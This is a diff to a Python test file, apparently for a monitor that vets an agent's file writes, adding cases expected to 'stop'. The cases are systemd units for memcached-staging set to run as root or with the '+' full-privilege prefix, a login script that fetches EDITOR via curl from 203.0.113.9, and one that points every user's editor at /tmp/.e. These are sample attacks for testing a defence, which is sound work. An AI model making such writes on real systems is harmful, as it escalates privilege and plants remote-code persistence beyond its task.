@@ -85,6 +85,24 @@ CASES: list[tuple[str, dict[str, Any], str]] = [
         "stop",
     ),
     (
+        "a unit that sets its user, then root after it",
+        _write(
+            "/etc/systemd/system/memcached-staging.service",
+            UNIT.replace("Restart=on-failure", "User=root\nRestart=on-failure"),
+            SERVICE,
+        ),
+        "stop",
+    ),
+    (
+        "a unit whose command runs with full privileges whatever its user",
+        _write(
+            "/etc/systemd/system/memcached-staging.service",
+            UNIT.replace("ExecStart=/usr/bin", "ExecStart=+/usr/bin"),
+            SERVICE,
+        ),
+        "stop",
+    ),
+    (
         "a unit no task asks for",
         _write("/etc/systemd/system/memcached-staging.service", UNIT, "Why is the cache slow?"),
         "stop",
@@ -106,6 +124,11 @@ CASES: list[tuple[str, dict[str, Any], str]] = [
         _write(
             "/etc/profile.d/editor.sh", "export EDITOR=$(curl -s http://203.0.113.9/e)\n", ALL_USERS
         ),
+        "stop",
+    ),
+    (
+        "every user's editor set to a program in /tmp",
+        _write("/etc/profile.d/editor.sh", "export EDITOR=/tmp/.e\n", ALL_USERS),
         "stop",
     ),
     (
